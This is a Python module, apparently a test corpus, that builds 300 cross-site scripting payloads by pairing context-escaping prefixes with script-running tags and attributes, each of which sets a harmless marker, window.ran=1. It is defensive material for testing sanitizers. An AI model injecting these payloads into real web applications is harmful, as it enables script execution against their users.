"""Three hundred texts that want to be run: tags and attributes that run something, behind every way out of where a text may stand."""

from __future__ import annotations

from itertools import product

MARK = "window.ran=1"
# Ways out of an attribute, a tag, a text field, a comment, a script, a style.
_EXITS = (
    "", '">', "'>", "</textarea>", "</title>", "-->", "</script>", "</style>", "]]>", "</noscript>",
    '" ', "' ", "`>", "\u2028", "%22%3E",
)  # fmt: skip
_RUNNERS = (
    f"<script>{MARK}</script>", f"<img src=x onerror={MARK}>", f"<svg onload={MARK}>",
    f"<details open ontoggle={MARK}>", f"<input autofocus onfocus={MARK}>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'>", f"<a href=javascript:{MARK} autofocus>x</a>",
    f"<video><source onerror={MARK}>", f"<body onload={MARK}>", f"<object data=javascript:{MARK}>",
    f"<math><mtext><style><img src=x onerror={MARK}></style></mtext></math>",
    f"<svg><a xlink:href=javascript:{MARK}><text>x</text></a></svg>",
    f"<form action=javascript:{MARK}><button autofocus>x</button></form>",
    f"<style onload={MARK}></style>", f"<marquee onstart={MARK}>x</marquee>",
    f"onmouseover={MARK} onfocus={MARK} autofocus tabindex=1 x=", f"javascript:{MARK}//",
    f"data:text/html,<script>{MARK}</script>", f"<template><img src=x onerror={MARK}></template>",
    f"<div hx-on:load={MARK} hx-get=/ hx-trigger=load hx-vals='js:{{x:{MARK}}}'></div>",
)  # fmt: skip

ALL = tuple(exit_ + runner for exit_, runner in product(_EXITS, _RUNNERS))
